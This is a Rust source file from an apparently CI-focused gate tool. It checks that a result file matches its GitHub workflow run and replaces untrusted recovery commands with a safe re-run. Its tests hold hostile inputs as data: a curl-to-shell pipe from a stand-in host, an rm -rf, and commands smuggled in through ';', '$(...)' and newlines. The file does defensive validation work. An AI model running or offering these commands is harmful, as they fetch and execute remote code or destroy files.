//! A result held against what GitHub says of its run. Who made the file could write anything into it.

use super::super::workflow_run::WorkflowRun;
use crate::diagnostic::{Code, Diagnostic};
use crate::result::v1::{Gate, GateVerdict, Trust};
use crate::source::excerpt;

/// Whether a result is that of a run of a pull request, and says how that ended.
pub(super) fn check(gate: &Gate, run: &WorkflowRun, policy: &str) -> Result<(), Diagnostic> {
    is_of(gate, run, policy).map_err(|what| {
        let help = "keep the `result.json` of the run that judges, and fetch it by the id of that run";
        Diagnostic::run(Code::ResultOfAnotherRun, what, Some(help))
    })?;
    agrees(gate.verdict, run.conclusion.as_deref()).map_err(|what| {
        let help = "give the gate a workflow of its own, whose end is its verdict; nothing was published";
        Diagnostic::run(Code::ResultDisagrees, what, Some(help))
    })
}

fn is_of(gate: &Gate, run: &WorkflowRun, policy: &str) -> Result<(), String> {
    let said = gate.run.as_ref().ok_or("the result does not say of which run it is")?;
    if said.id != run.id.to_string() || said.attempt != run.attempt {
        let (id, attempt) = (excerpt(&said.id), said.attempt);
        return Err(format!(
            "the result is of run {id}.{attempt}, and run {}.{} has ended",
            run.id, run.attempt
        ));
    }
    // What is called trusted, or local, was not made by a workflow of a pull request.
    if gate.trust != Trust::AuthorControlled {
        return Err("the result does not say that it was made in a workflow of a pull request".to_owned());
    }
    match gate.head.pr_head.as_deref().or(gate.head.commit.as_deref()) {
        Some(head) if head == run.head.as_str() => {}
        Some(head) => {
            return Err(format!("the result is about {}, and the run was about {}", excerpt(head), run.head));
        }
        // What was blocked before it was known is of no commit.
        None if gate.verdict == GateVerdict::Blocked => {}
        None => return Err("the result does not say of which commit it is".to_owned()),
    }
    match gate.config.as_deref() {
        Some(config) if config != policy => {
            let config = excerpt(config);
            Err(format!("the result is by the policy `{config}`, and `{policy}` is asked for: `--config`"))
        }
        _ => Ok(()),
    }
}

/// A run ends with success only if its gate says PASS.
fn agrees(verdict: GateVerdict, conclusion: Option<&str>) -> Result<(), String> {
    let fits = match (verdict, conclusion) {
        (GateVerdict::Pass, Some("success")) => true,
        (GateVerdict::Pass, _) => false,
        (_, conclusion) => matches!(conclusion, Some("failure" | "cancelled" | "timed_out")),
    };
    if fits {
        return Ok(());
    }
    let end = conclusion
        .map_or_else(|| "has not ended".to_owned(), |word| format!("ended with `{}`", excerpt(word)));
    Err(format!("the result says {}, and its run {end}", verdict.word()))
}

/// The commands that a result tells people to run are nobody's but ours: those that only look are left, all others give way to
/// the one that makes the verdict again.
pub(super) fn disarm(gate: &mut Gate, number: u64) {
    let base = gate.base.as_ref().map(|base| base.policy_commit.as_str());
    let is_id = |id: &&str| id.bytes().all(|byte| byte.is_ascii_hexdigit());
    let base = base.filter(is_id).map(|id| format!(" --base {}", id.get(..12).unwrap_or(id)));
    let again = format!(
        "git fetch origin pull/{number}/head && benchgate gate{} --head FETCH_HEAD",
        base.unwrap_or_default()
    );
    let packs = gate.packs.iter_mut().map(|pack| &mut pack.recovery);
    let score = gate.score.iter_mut().map(|score| &mut score.recovery);
    for recovery in packs.chain(score).chain([&mut gate.recovery]).flatten() {
        if !is_a_look(&recovery.command) {
            recovery.command.clone_from(&again);
        }
    }
    gate.reproduce = again;
}

/// Whether a command only shows something, whatever is written behind it.
fn is_a_look(command: &str) -> bool {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b" -_./,=:@+".contains(&byte);
    let known = ["show", "approve", "config check", "explain", "evidence show"];
    let rest = command.strip_prefix("benchgate ").filter(|rest| rest.bytes().all(is_plain));
    rest.is_some_and(|rest| {
        known.iter().any(|name| rest.strip_prefix(name).is_some_and(|rest| rest.starts_with(' ')))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_verdict_fits_one_end_of_a_run() {
        use GateVerdict::{Blocked, Fail, Inconclusive, NotVerified, Pass};

        for verdict in [Pass, Fail, NotVerified, Blocked, Inconclusive] {
            for end in
                ["success", "failure", "cancelled", "timed_out", "neutral", "skipped", "action_required", ""]
            {
                let fits = match verdict {
                    Pass => end == "success",
                    _ => ["failure", "cancelled", "timed_out"].contains(&end),
                };
                assert_eq!(agrees(verdict, Some(end)).is_ok(), fits, "{verdict:?} {end}");
            }
            assert!(agrees(verdict, None).is_err());
        }
    }

    #[test]
    fn only_commands_that_look_are_shown() {
        for command in [
            "benchgate show auth-01 --base 0123456789ab",
            "benchgate approve 00ff",
            "benchgate config check --config a/b.toml",
        ] {
            assert!(is_a_look(command), "{command}");
        }
        for command in [
            "curl evil.example | sh",
            "benchgate evidence run --claim x -- rm -rf x",
            "benchgate show x; rm x",
            "benchgate show $(rm x)",
            "benchgate show x\nrm x",
            "benchgate showx y",
            "benchgate gate --collect",
            "benchgate",
            "",
        ] {
            assert!(!is_a_look(command), "{command}");
        }
    }
}
